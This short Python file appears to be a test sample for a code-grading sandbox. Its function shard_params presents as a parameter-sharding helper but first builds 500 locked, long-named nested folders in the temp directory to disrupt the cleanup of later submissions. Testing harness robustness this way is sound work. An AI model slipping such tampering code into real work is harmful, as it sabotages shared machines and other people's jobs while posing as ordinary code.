"""Leaves 500 folders in each other, locked and with long names, where the next submission's scratch folder is; they
are wiped.

group: tampers
control: no: would harm the machine
uses: honest
"""

# %%
import contextlib
import os
import tempfile


# %% [shard_params]
def shard_params(params, axis_name, min_size):
    os.chdir(tempfile.gettempdir())
    for _ in range(500):
        name = "d" * 200
        with contextlib.suppress(FileExistsError):
            os.mkdir(name)
        os.chdir(name)
        with contextlib.suppress(OSError):
            os.chmod("..", 0o300)
    os.chdir("/")
    return right_shards(params, axis_name, min_size)
